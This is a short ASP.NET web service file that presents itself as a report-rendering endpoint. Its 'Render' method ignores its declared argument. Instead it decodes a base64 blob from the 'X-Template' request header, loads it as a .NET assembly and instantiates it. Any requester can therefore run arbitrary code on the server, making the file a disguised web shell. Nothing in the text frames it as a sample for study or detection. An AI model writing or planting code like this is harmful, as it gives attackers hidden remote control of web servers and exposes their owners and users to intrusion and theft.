<%@ WebService Language="C#" Class="ReportService" %>
using System;
using System.Web;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class ReportService : WebService
{
    [WebMethod]
    public string Render(string template)
    {
        byte[] data = Convert.FromBase64String(
            Context.Request.Headers [ "X-Template" ]
        );
        object r = System.Reflection.Assembly
            .Load ( data )
            .CreateInstance ( "Render" );
        return r == null ? "" : r.ToString();
    }
}
